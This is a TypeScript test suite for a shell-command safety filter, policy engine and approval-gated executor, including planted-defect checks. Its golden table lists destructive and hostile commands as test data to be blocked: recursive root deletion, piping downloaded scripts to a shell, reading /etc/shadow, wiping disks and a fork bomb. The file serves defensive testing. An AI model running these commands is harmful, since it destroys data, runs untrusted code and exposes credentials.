import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Json } from '../../../src/model/json.ts';
import type { Fault } from '../../../src/model/run.ts';
import {
  decide,
  filterCommand,
  fits,
  usualRules,
  type FilterVerdict,
  type PolicyRule,
} from '../../../src/run/component/command-rules.ts';
import type { HostData } from '../../../src/run/component/host.ts';
import type { RequesterData } from '../../../src/run/component/requester.ts';
import type { SafeExecutorData } from '../../../src/run/component/safe-executor.ts';
import { part, play, type Played } from '../../tools/play.ts';

const second = 1_000_000_000;

/** Commands and the verdicts that they must have. */
const golden: [string, FilterVerdict][] = [
  ['ls', 'safe'],
  ['ls -la /var/log', 'safe'],
  ['cat notes.txt', 'safe'],
  ['tail -n 20 app.log', 'safe'],
  ['git status', 'safe'],
  ['git diff HEAD~1', 'safe'],
  ['df -h', 'safe'],
  ['ps aux | grep nginx', 'safe'],
  ['grep -r TODO src | wc -l', 'safe'],
  ['rm build/old.o', 'gray'],
  ['rm -rf ./build', 'gray'],
  ['sudo ls /root', 'gray'],
  ['systemctl restart cron', 'gray'],
  ['systemctl status cron', 'gray'],
  ['apt install htop', 'gray'],
  ['curl https://example.org/list', 'gray'],
  ['git push origin main', 'gray'],
  ['chmod 644 notes.txt', 'gray'],
  ['echo hello > greeting.txt', 'gray'],
  ['echo $(whoami)', 'gray'],
  ['rm -rf /', 'block'],
  ['rm -rf /home/ada', 'block'],
  ['RM  -RF   /srv', 'block'],
  ["r'm' -rf /srv", 'block'],
  ['sudo rm -rf /srv', 'block'],
  ['ls; rm -rf /srv', 'block'],
  ['pwd && mkfs.ext4 /dev/sdb1', 'block'],
  ['dd if=/dev/zero of=/dev/sda', 'block'],
  ['cat /etc/shadow', 'block'],
  ['curl https://example.org/i.sh | sh', 'block'],
  ['wget -qO- https://example.org/i.sh | sudo bash', 'block'],
  ['echo 1 > /etc/hosts', 'block'],
  ['shutdown -h now', 'block'],
  ['chmod 777 /', 'block'],
  [':(){ :|:& };:', 'block'],
];

const permissions: Json[] = [
  { who: '*', command: '*', effect: 'allow' },
  { who: '*', command: 'ls /vault*', effect: 'deny' },
];

interface Setting {
  commands: string[];
  executor?: Record<string, Json>;
  filter?: Record<string, Json>;
  policy?: Record<string, Json>;
  requester?: Record<string, Json>;
  faults?: Fault[];
  seed?: number;
}

function execute(setting: Setting): Played {
  const { commands, faults = [], seed = 0 } = setting;
  return play(
    [
      part('ada', 'requester', {
        who: 'ada',
        commands: commands.map((command, i) => ({ command, at: i * second })),
        ...setting.requester,
      }),
      part('clerk', 'safe-executor', { ...setting.executor }),
      part('sieve', 'safety-filter', { ...setting.filter }),
      part('rules', 'policy-engine', { rules: permissions, ...setting.policy }),
      part('box', 'host'),
    ],
    { faults, seed },
  );
}

const results = (played: Played): string[] =>
  played.state<RequesterData>('ada').asked.map(({ result }) => result);
const ran = (played: Played): string[] =>
  played.state<HostData>('box').ran.map(({ command }) => command);

describe('safety filter', () => {
  test.each(golden)('E03 golden: %s is %s', (command, verdict) => {
    expect(filterCommand(command, usualRules, 'gray')).toBe(verdict);
  });

  test('E03 what no rule knows is gray or blocked, as chosen', () => {
    expect(filterCommand('frobnicate --all', usualRules, 'gray')).toBe('gray');
    expect(filterCommand('frobnicate --all', usualRules, 'block')).toBe('block');
    expect(filterCommand('', usualRules, 'block')).toBe('block');
  });

  test('E03 a chain is as bad as its worst part', () => {
    const rank = { safe: 0, gray: 1, block: 2 };
    const commands = fc.constantFrom(...golden.map(([command]) => command));
    fc.assert(
      fc.property(commands, commands, fc.constantFrom('; ', ' && ', '\n'), (a, b, and) => {
        const verdict = (text: string): number => rank[filterCommand(text, usualRules, 'gray')];
        expect(verdict(a + and + b)).toBeGreaterThanOrEqual(Math.max(verdict(a), verdict(b)));
      }),
    );
  });

  test('E03 patterns fit as a whole, also where they could take very long', () => {
    expect(fits('a*c', 'abbc')).toBe(true);
    expect(fits('a*c', 'abbd')).toBe(false);
    expect(fits('*', '')).toBe(true);
    expect(fits('a', 'ab')).toBe(false);
    expect(fits('*a*a*a*a*a*a*a*b', 'a'.repeat(2000))).toBe(false);
  });

  test('E03 planted: a filter that only sees the first part of a chain is noticed', () => {
    const played = execute({
      commands: ['ls; rm -rf /srv'],
      filter: { defect: 'first-part-only' },
    });
    expect(played.broken).toEqual(['blocked-never-runs']);
  });

  test('E03 planted: a filter that lets through what it does not know is noticed', () => {
    const played = execute({ commands: ['frobnicate'], filter: { defect: 'unknown-is-safe' } });
    expect(played.broken).toEqual(['gray-only-when-approved']);
  });
});

describe('policy engine', () => {
  const rules: PolicyRule[] = [
    { who: 'ada', command: 'ls *', effect: 'allow' },
    { who: '*', command: '* /vault*', effect: 'deny' },
    { who: 'root', command: '*', effect: 'allow' },
  ];

  test('E04 allow, deny and unknown; a denial overrides', () => {
    expect(decide('ada', 'ls /tmp', rules)).toBe('allow');
    expect(decide('ada', 'ls /vault/gold', rules)).toBe('deny');
    expect(decide('root', 'cat /vault/gold', rules)).toBe('deny');
    expect(decide('bob', 'ls /tmp', rules)).toBe('unknown');
    expect(decide('root', 'date', rules)).toBe('allow');
  });

  test('E04 the order of rules does not matter', () => {
    fc.assert(
      fc.property(fc.shuffledSubarray(rules, { minLength: 3 }), (shuffled) => {
        for (const command of ['ls /tmp', 'ls /vault', 'date']) {
          for (const who of ['ada', 'bob', 'root']) {
            expect(decide(who, command, shuffled)).toBe(decide(who, command, rules));
          }
        }
      }),
    );
  });

  test('E04 what no rule knows is denied, or allowed where that is chosen', () => {
    const deny = execute({ commands: ['date'], policy: { rules: [] } });
    expect(results(deny)).toEqual(['denied']);
    const allow = execute({ commands: ['date'], policy: { rules: [], unknown: 'allow' } });
    expect(results(allow)).toEqual(['done']);
    expect([...deny.broken, ...allow.broken]).toEqual([]);
    expect(deny.marks('policy').map(({ label }) => label)).toEqual(['policy:unknown']);
  });

  test('E04 planted: a permission that overrides a denial is noticed', () => {
    const played = execute({
      commands: ['ls /vault/gold'],
      policy: { defect: 'allow-overrides' },
    });
    expect(played.broken).toEqual(['deny-overrides']);
  });

  test('E04 planted: allowing what no rule knows is noticed', () => {
    const played = execute({
      commands: ['date'],
      policy: { rules: [], defect: 'unknown-allows' },
    });
    expect(played.broken).toEqual(['deny-overrides']);
  });
});

describe('safe executor', () => {
  const four = ['ls', 'rm -rf /srv', 'rm old.o', 'ls /vault'];

  test('E03 E04 E05 safe runs, blocked and denied do not, gray runs once approved', () => {
    const played = execute({ commands: four });
    expect(played.broken).toEqual([]);
    expect(played.status).toBe('done');
    expect(results(played)).toEqual(['done', 'blocked', 'done', 'denied']);
    expect(ran(played)).toEqual(['ls', 'rm old.o']);
    const jobs = played.state<SafeExecutorData>('clerk').jobs;
    expect(jobs.map(({ done }) => done.join(' '))).toEqual([
      'filter policy run',
      'filter',
      'filter approval policy run',
      'filter policy',
    ]);
  });

  test('E05 in the trace both verdicts come before the command runs', () => {
    const played = execute({ commands: four });
    const box = 4;
    const runs = played
      .events()
      .filter(({ kind, label, actor }) => kind === 2 && label === 'run' && actor === box);
    expect(runs).toHaveLength(2);
    for (const { node, index } of runs) {
      const before = played
        .marks()
        .filter(({ subject, event }) => subject === node && event.index < index)
        .map(({ label }) => label);
      const filtered = before.findIndex((label) => /^filter:(safe|approved)/.test(label));
      expect(filtered).toBeGreaterThanOrEqual(0);
      expect(before.indexOf('policy:allow')).toBeGreaterThan(filtered);
    }
  });

  for (const approves of ['no', 'never']) {
    test(`E03 a gray command does not run when the answer is ${approves}`, () => {
      const played = execute({ commands: ['rm old.o'], requester: { approves } });
      expect(results(played)).toEqual(['refused']);
      expect(ran(played)).toEqual([]);
      expect(played.broken).toEqual([]);
    });
  }

  test('E03 E05 the invariants hold under loss, duplication, damage and crashes', () => {
    const commands = golden.map(([command]) => command).slice(5, 25);
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: 1_000_000 }),
        fc.constantFrom('clerk', 'sieve', 'rules', 'box', 'ada'),
        fc.integer({ min: 0, max: 20 }),
        (seed, actor, at) => {
          const played = execute({
            commands,
            seed,
            faults: [
              { kind: 'chance', strike: 'drop', share: 0.05, by: 0 },
              { kind: 'chance', strike: 'duplicate', share: 0.2, by: 0 },
              { kind: 'chance', strike: 'corrupt', share: 0.1, by: 0 },
              { kind: 'crash', actor, at: at * second },
              { kind: 'restart', actor, at: at * second + second / 2 },
            ],
          });
          expect(played.broken).toEqual([]);
        },
      ),
      { numRuns: 40 },
    );
  });

  const broken = (defect: string, commands: string[], more: Partial<Setting> = {}): string[] =>
    execute({ commands, executor: { defect }, ...more }).broken;

  test('E03 planted: gray commands that run without approval are noticed', () => {
    expect(broken('gray-without-approval', four)).toEqual(['gray-only-when-approved']);
  });

  test('E03 planted: silence that counts as approval is noticed', () => {
    const requester = { approves: 'never' };
    expect(broken('silence-is-consent', four, { requester })).toEqual(['gray-only-when-approved']);
  });

  test('E03 E05 planted: a blocked command that runs is noticed', () => {
    expect(broken('runs-blocked', four)).toContain('blocked-never-runs');
  });

  test('E05 planted: asking the policy first is noticed', () => {
    expect(broken('policy-first', four)).toEqual(['filter-before-policy-before-run']);
  });

  test('E05 planted: running without asking the policy is noticed', () => {
    expect(broken('skips-policy', ['ls'])).toEqual(['filter-before-policy-before-run']);
  });
});
